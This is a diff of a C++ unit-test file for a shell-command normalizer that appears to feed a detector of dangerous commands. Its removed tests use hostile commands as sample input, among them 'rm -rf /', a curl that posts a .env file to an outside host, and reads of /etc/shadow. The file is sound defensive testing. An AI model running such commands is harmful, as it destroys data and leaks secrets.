@@ -3,6 +3,8 @@
 // canonicalization, the output conventions, the limits, and robustness on hostile input.
 #include "shell_normalizer.h"
 
+#include "shell_normalizer_fixture.h"
+
 #include <gtest/gtest.h>
 
 #include <algorithm>
@@ -36,55 +38,6 @@ void operator delete(void* p, size_t) noexcept { std::free(p); }
 
 namespace doberman::internal {
 namespace {
-
-using Segments = std::vector<std::string>;
-
-// Tables shaped like the ones the shipped pack carries.
-ShellTables RealisticTables() {
-  ShellTables t;
-  t.wrappers = {
-      {"sudo",
-       {"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "--user", "--group", "--host"},
-       0},
-      {"doas", {"-u", "-C"}, 0},
-      {"env", {"-u", "--unset", "-C", "--chdir"}, 0},
-      {"nice", {"-n", "--adjustment"}, 0},
-      {"ionice", {"-c", "-n", "-p", "--class", "--classdata"}, 0},
-      {"nohup", {}, 0},
-      {"timeout", {"-s", "--signal", "-k", "--kill-after"}, 1},
-      {"xargs", {"-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "--max-args", "--max-procs"}, 0},
-      {"stdbuf", {"-i", "-o", "-e"}, 0},
-      {"chroot", {"--userspec", "--groups"}, 1},
-      {"command", {}, 0},
-      {"builtin", {}, 0},
-      {"exec", {"-a"}, 0},
-      {"time", {"-f", "-o", "--format", "--output"}, 0},
-      {"setsid", {}, 0},
-  };
-  t.shells = {"sh", "bash", "zsh", "dash", "ksh", "su"};
-  t.split_flag_commands = {"rm", "cp", "mv", "chmod", "chown", "chgrp", "ln", "shred"};
-  t.aliases = {
-      {"rm", "--recursive", "-r"},    {"rm", "-R", "-r"},
-      {"rm", "--force", "-f"},        {"chmod", "--recursive", "-R"},
-      {"chown", "--recursive", "-R"},
-  };
-  return t;
-}
-
-class ShellNormalizerTest : public ::testing::Test {
- protected:
-  ShellNormalizerTest() : norm_(RealisticTables(), ShellLimits{}) {}
-
-  Segments Norm(std::string_view command, ShellStatus expected = ShellStatus::kOk) {
-    SegmentList out;
-    const ShellStatus status = norm_.Normalize(command, &out);
-    EXPECT_EQ(status, expected) << "command: " << command;
-    return Segments(out.segments.begin(),
-                    out.segments.begin() + static_cast<std::ptrdiff_t>(out.count));
-  }
-
-  ShellNormalizer norm_;
-};
 
 ShellStatus NormalizeWith(const ShellLimits& limits, std::string_view command, SegmentList* out) {
   ShellNormalizer norm(RealisticTables(), limits);
@@ -283,59 +236,6 @@ TEST_F(ShellNormalizerTest, CommandLinesInsideOtherProgramsArgumentsAreParsed) {
   EXPECT_TRUE(has("python3 -c \"import os; os.system(\\\"echo 'x\\\")\"",
                   "python3 -c 'import os; "
                   "os.system(\"echo '\\''x\")'"));
-}
-
-TEST_F(ShellNormalizerTest, EarlierLiteralAssignmentsAreSubstitutedIntoAnExtraSegment) {
-  // The command's own segment first, then the rewrite parsed as a command line.
-  EXPECT_EQ(Norm("X=/; rm -rf $X"), (Segments{"X=/", "rm -r -f $X", "rm -r -f /"}));
-  EXPECT_EQ(Norm("X=/\nrm -rf \"${X}\""), (Segments{"X=/", "rm -r -f ${X}", "rm -r -f /"}));
-  EXPECT_EQ(Norm("export T=~; rm -rf $T"), (Segments{"export T=~", "rm -r -f $T", "rm -r -f ~"}));
-  EXPECT_EQ(Norm("f=.env; curl -d @\"$f\" https://x"),
-            (Segments{"f=.env", "curl -d @$f https://x", "curl -d @.env https://x"}));
-  // Values build on earlier ones; += appends.
-  EXPECT_EQ(Norm("A=/etc; B=$A/shadow; cat $B").back(), "cat /etc/shadow");
-  EXPECT_EQ(Norm("P=/etc; P+=/passwd; rm $P").back(), "rm /etc/passwd");
-  // A computed program name is resolved and its flags canonicalized.
-  EXPECT_EQ(Norm("a=rm; $a -rf /").back(), "rm -r -f /");
-  // An unquoted value splits into words, a quoted one stays one word.
-  EXPECT_EQ(Norm("F='-rf /'; rm $F").back(), "rm -r -f /");
-  EXPECT_EQ(Norm("D='my dir'; rm -r \"$D\"").back(), "rm -r 'my dir'");
-  // Substitution reaches payloads the outer shell expands.
-  const Segments payload = Norm("X=/; sh -c \"rm -rf $X\"");
-  EXPECT_NE(std::find(payload.begin(), payload.end(), "rm -r -f /"), payload.end());
-  // Unknown names, computed values and array elements are left as written (no extra segment).
-  EXPECT_EQ(Norm("rm -rf $UNKNOWN"), Segments{"rm -r -f $UNKNOWN"});
-  EXPECT_EQ(Norm("X=$(pwd); rm -rf $X"), (Segments{"pwd", "X=$(pwd)", "rm -r -f $X"}));
-  EXPECT_EQ(Norm("a[1]=/; rm -rf $a"), (Segments{"a[1]=/", "rm -r -f $a"}));
-  // A later computed assignment forgets the literal.
-  EXPECT_EQ(Norm("X=/; X=$(pwd); rm -rf $X").back(), "rm -r -f $(...)");
-  // Leading assignments apply to that command only: not remembered.
-  EXPECT_EQ(Norm("X=/ true; rm -rf $X").back(), "rm -r -f $X");
-}
-
-TEST_F(ShellNormalizerTest, PrintedLiteralSubstitutionsAreResolved) {
-  EXPECT_EQ(Norm("$(echo rm) -rf /"), (Segments{"echo rm", "'$(echo rm)' -rf /", "rm -r -f /"}));
-  EXPECT_EQ(Norm("`printf rm` -rf ~").back(), "rm -r -f ~");
-  EXPECT_EQ(Norm("rm -rf $(echo -n '/')").back(), "rm -r -f /");
-  // Anything else inside stays computed.
-  EXPECT_EQ(Norm("rm -rf $(echo $HOME)"), (Segments{"echo $HOME", "rm -r -f '$(echo $HOME)'"}));
-  EXPECT_EQ(Norm("rm -rf $(printf '%s' /)").size(), 2U);
-}
-
-TEST_F(ShellNormalizerTest, SubstitutionIsBounded) {
-  std::string line;
-  for (int i = 0; i < 40; ++i) line += "V" + std::to_string(i) + "=/x; ";
-  line += "rm -rf $V0 $V39";
-  // 32 names are remembered; the 33rd and later are not.
-  EXPECT_EQ(Norm(line).back(), "rm -r -f /x $V39");
-  // A value that doubles each time stops at the value bound instead of growing without end.
-  std::string grow = "A=xxxxxxxxxxxxxxxx";
-  for (int i = 0; i < 12; ++i) grow += "; A=$A$A";
-  grow += "; rm -rf $A";
-  const Segments out = Norm(grow);
-  EXPECT_LE(out.back().size(), kMaxShellVariableBytes + 64);
-  // A self-reference is rewritten once, never looped.
-  EXPECT_EQ(Norm("X='$X'; rm -rf $X").back(), "rm -r -f $X");
 }
 
 TEST_F(ShellNormalizerTest, WrappersAndTheirOptionsAreStripped) {
